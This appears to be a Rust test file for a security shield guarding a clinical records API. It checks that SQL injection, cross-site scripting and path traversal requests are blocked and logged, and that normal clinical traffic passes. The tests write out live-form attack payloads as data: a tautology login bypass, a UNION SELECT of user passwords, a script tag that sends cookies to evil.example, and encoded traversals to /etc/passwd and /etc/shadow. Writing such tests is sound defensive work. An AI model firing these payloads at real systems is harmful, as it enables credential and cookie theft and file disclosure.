//! # Payload Injection Simulations
//!
//! Sends classic SQL injection, cross-site scripting, and traversal payloads
//! at a shielded worker, alongside the clean clinical traffic that must keep
//! flowing while the inspectors watch.

#[cfg(test)]
mod tests {
    use crate::support::{self, TENANT_A, TENANT_B};
    use axum::http::StatusCode;
    use caregrid_shield::store::keys;
    use caregrid_shield::{BlockStore, EventCategory, ProfileName, SecurityProfile, Severity};
    use serde_json::json;

    // =============================================================================
    // SQL INJECTION
    // =============================================================================

    /// A quoted tautology in login credentials is rejected with a full audit
    /// trail: pattern name, attempt count, and the probing identity.
    #[tokio::test]
    async fn test_tautology_in_login_form_is_rejected() {
        let worker = support::worker(&support::config(ProfileName::Moderate));

        let response = support::send(
            &worker.router,
            support::post_form(
                TENANT_A,
                "/api/v1/auth/login",
                "username=admin%27+OR+%271%27%3D%271&password=whatever123",
            ),
        )
        .await;

        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        assert_eq!(support::rejection_code(response).await, "sql_injection");

        let events = worker.sink.events();
        assert_eq!(worker.sink.count(EventCategory::SqlInjection), 1);
        assert_eq!(events[0].severity, Severity::High);
        assert_eq!(events[0].identity, TENANT_A);
        assert_eq!(events[0].details["pattern"], "quoted_tautology");
        assert_eq!(events[0].details["attempts"], 1);
    }

    /// UNION-based extraction probes in a GET query string are rejected.
    #[tokio::test]
    async fn test_union_select_in_query_string_is_rejected() {
        let worker = support::worker(&support::config(ProfileName::Moderate));

        let response = support::send(
            &worker.router,
            support::get_from(
                TENANT_A,
                "/api/v1/patients?search=1%20UNION%20SELECT%20password%20FROM%20users",
            ),
        )
        .await;

        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        assert_eq!(support::rejection_code(response).await, "sql_injection");
    }

    /// Repeat probers burn through the strike budget and earn a full block
    /// that answers every later request, clean or not.
    #[tokio::test]
    async fn test_repeat_probers_earn_a_full_block() {
        // Setup: three-strike escalation
        let profile = SecurityProfile {
            sql_block_attempts: 3,
            ..SecurityProfile::named(ProfileName::Moderate)
        };
        let worker = support::worker(&support::config_with(profile));

        for _ in 0..3 {
            let response = support::send(
                &worker.router,
                support::post_form(TENANT_A, "/api/v1/notes", "q=%27+OR+%271%27%3D%271"),
            )
            .await;
            assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        }

        // The third strike wrote the escalated block entry
        let entry = worker.store.get(&keys::ip_block(TENANT_A)).await.unwrap();
        assert_eq!(entry.as_deref(), Some("sql_injection"));
        let escalated = worker
            .sink
            .events()
            .into_iter()
            .filter(|event| event.severity == Severity::Critical)
            .count();
        assert_eq!(escalated, 1);

        // Act: a clean read from the same identity
        let response =
            support::send(&worker.router, support::get_from(TENANT_A, "/api/v1/patients")).await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(support::rejection_code(response).await, "blocked");

        // The cached rejection restates the category that earned the block
        let last = worker.sink.events().pop().expect("cached event");
        assert_eq!(last.category, EventCategory::SqlInjection);
        assert_eq!(last.severity, Severity::Low);
        assert_eq!(last.details["cached"], true);

        // Other tenants are untouched
        let response =
            support::send(&worker.router, support::get_from(TENANT_B, "/api/v1/patients")).await;
        assert_eq!(response.status(), StatusCode::OK);
    }

    // =============================================================================
    // CROSS-SITE SCRIPTING
    // =============================================================================

    /// A script element in a clinical note is rejected before it is stored.
    #[tokio::test]
    async fn test_script_payload_in_note_is_rejected() {
        let worker = support::worker(&support::config(ProfileName::Moderate));

        let note = json!({
            "patient_id": "P-4471",
            "note": "<script>document.location='//evil.example/'+document.cookie</script>",
        });
        let response = support::send(
            &worker.router,
            support::post_json(TENANT_A, "/api/v1/notes", &note),
        )
        .await;

        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        assert_eq!(support::rejection_code(response).await, "xss");
        assert_eq!(worker.sink.count(EventCategory::Xss), 1);
        assert_eq!(worker.sink.count(EventCategory::SqlInjection), 0);
    }

    /// XSS detections never escalate: no counters, no block entries, and the
    /// identity keeps its access for clean requests.
    #[tokio::test]
    async fn test_xss_detections_do_not_escalate() {
        let worker = support::worker(&support::config(ProfileName::Moderate));

        let note = json!({ "note": "<img src=x onerror=alert(document.cookie)>" });
        for _ in 0..4 {
            let response = support::send(
                &worker.router,
                support::post_json(TENANT_A, "/api/v1/notes", &note),
            )
            .await;
            assert_eq!(response.status(), StatusCode::BAD_REQUEST);
            assert_eq!(support::rejection_code(response).await, "xss");
        }

        assert!(worker.store.is_empty());
        let response =
            support::send(&worker.router, support::get_from(TENANT_A, "/api/v1/patients")).await;
        assert_eq!(response.status(), StatusCode::OK);
    }

    // =============================================================================
    // PATH TRAVERSAL
    // =============================================================================

    /// An encoded parent-directory escape in a query value is rejected even
    /// though the path itself is clean.
    #[tokio::test]
    async fn test_encoded_traversal_in_query_is_rejected() {
        let worker = support::worker(&support::config(ProfileName::Moderate));

        let response = support::send(
            &worker.router,
            support::get_from(TENANT_A, "/api/v1/export?file=..%2F..%2F..%2Fetc%2Fpasswd"),
        )
        .await;

        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(support::rejection_code(response).await, "path_traversal");
        assert_eq!(worker.sink.count(EventCategory::PathTraversal), 1);
    }

    /// Traversal sequences smuggled in form fields are caught the same way.
    #[tokio::test]
    async fn test_traversal_in_form_field_is_rejected() {
        let worker = support::worker(&support::config(ProfileName::Moderate));

        let response = support::send(
            &worker.router,
            support::post_form(TENANT_A, "/api/v1/notes", "file=..%2F..%2F..%2Fetc%2Fshadow"),
        )
        .await;

        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(support::rejection_code(response).await, "path_traversal");
    }

    // =============================================================================
    // CLEAN CLINICAL TRAFFIC
    // =============================================================================

    /// Realistic clinical payloads, apostrophes and dashes included, must
    /// never trip the inspectors.
    #[tokio::test]
    async fn test_clean_clinical_traffic_passes_inspection() {
        let worker = support::worker(&support::config(ProfileName::Moderate));

        let note = json!({
            "patient_id": "P-2210",
            "note": "Guardian's consent on file -- see attached scan",
            "medication": "metformin 500mg, twice daily",
        });
        let response = support::send(
            &worker.router,
            support::post_json(TENANT_A, "/api/v1/notes", &note),
        )
        .await;
        assert_eq!(response.status(), StatusCode::OK);

        let response = support::send(
            &worker.router,
            support::get_from(
                TENANT_A,
                "/api/v1/patients?search=diabetes+follow-up&clinic=northside",
            ),
        )
        .await;
        assert_eq!(response.status(), StatusCode::OK);

        let response = support::send(
            &worker.router,
            support::post_form(
                TENANT_A,
                "/api/v1/auth/login",
                "username=dr.okafor&password=Tr1age%21Rounds",
            ),
        )
        .await;
        assert_eq!(response.status(), StatusCode::OK);

        assert!(worker.sink.events().is_empty());
    }
}
